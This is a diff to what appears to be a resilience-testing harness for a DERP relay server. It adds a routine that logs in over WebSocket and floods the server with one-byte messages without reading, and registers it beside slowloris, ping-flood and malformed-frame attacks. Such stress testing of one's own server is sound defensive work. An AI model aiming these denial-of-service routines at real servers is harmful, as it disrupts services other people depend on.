@@ -1696,8 +1696,8 @@ async def attack_derp_nonreader(ctx: Ctx) -> list[dict[str, Any]]:
                     bool(rounds) and dropped == len(rounds), rounds=rounds)]
 
 
-async def attack_derp_ws_ping_flood(ctx: Ctx) -> list[dict[str, Any]]:
-    """DERP over WebSocket: log in, then flood WebSocket pings and never read."""
+async def _derp_ws_login(ctx: Ctx) -> Raw:
+    """DERP over WebSocket (subprotocol ``derp``): upgrade, ServerKey, ClientInfo."""
     key = PrivateKey.generate()
     r, rest = await ws_open(ctx.port, "/derp", None, rcvbuf=4096, subprotocol="derp")
     buf = rest
@@ -1716,9 +1716,34 @@ async def attack_derp_ws_ping_flood(ctx: Ctx) -> list[dict[str, Any]]:
     ci = encode_client_info(key.public.raw, seal(key, server_key, b'{"version":2}'))
     await r.send_all(ws_frame(WS_BINARY, ci))
     await asyncio.sleep(0.5)
+    return r
+
+
+async def attack_derp_ws_ping_flood(ctx: Ctx) -> list[dict[str, Any]]:
+    """DERP over WebSocket: log in, then flood WebSocket pings and never read."""
+    r = await _derp_ws_login(ctx)
     row = await _ws_flood_tail(ctx, r, "derp-ws-ping-flood", ws_frame(WS_PING, b"q" * 125))
     row["target"] = "/derp over WebSocket (logged in)"
     return [row]
+
+
+async def attack_derp_ws_tiny_frames(ctx: Ctx) -> list[dict[str, Any]]:
+    """DERP over WebSocket: log in, then one WebSocket message per byte of a
+    stream of NotePreferred frames, for 5 s, never reading; again every 15 s."""
+    note = encode_frame(FrameType.NOTE_PREFERRED, b"\x01") + encode_frame(FrameType.NOTE_PREFERRED, b"\x00")
+    frames = b"".join(ws_frame(WS_BINARY, note[i : i + 1]) for i in range(len(note)))
+    res: list[str] = []
+    while ctx.left() > 8 and len(res) < 4:
+        t_round = time.time()
+        r = await _derp_ws_login(ctx)
+        sent, how = await r.push(frames, limit=1 << 30, stall=2.0, until=min(ctx.deadline, time.time() + 5))
+        res.append(f"{sent / 1e6:.0f} MB ({how}), then {'closed' if r.peer_closed() else 'open'}")
+        ctx.log("derp-ws-tiny-frames", res[-1])
+        r.close(rst=True)
+        await asyncio.sleep(max(0.0, 15.0 - (time.time() - t_round)))
+    return [outcome("derp-ws-tiny-frames", "/derp over WebSocket (logged in)",
+                    f"{len(res)} connections × 5 s of one-byte WebSocket messages", summarize(res, 2),
+                    None)]
 
 
 async def _ws_flood_tail(ctx: Ctx, r: Raw, name: str, frame: bytes) -> dict[str, Any]:
@@ -1846,6 +1871,7 @@ ATTACKS: dict[str, tuple[str, Callable[[Ctx], Awaitable[list[dict[str, Any]]]]]]
     "slowloris": ("derp", attack_slowloris),
     "derp-nonreader": ("derp", attack_derp_nonreader),
     "derp-ws-ping-flood": ("derp", attack_derp_ws_ping_flood),
+    "derp-ws-tiny-frames": ("derp", attack_derp_ws_tiny_frames),
     "derp-nested-clientinfo": ("derp", attack_derp_nested_clientinfo),
     "derp-malformed": ("derp", attack_derp_malformed),
     "derp-tiny-frames": ("derp", attack_derp_tiny_frames),
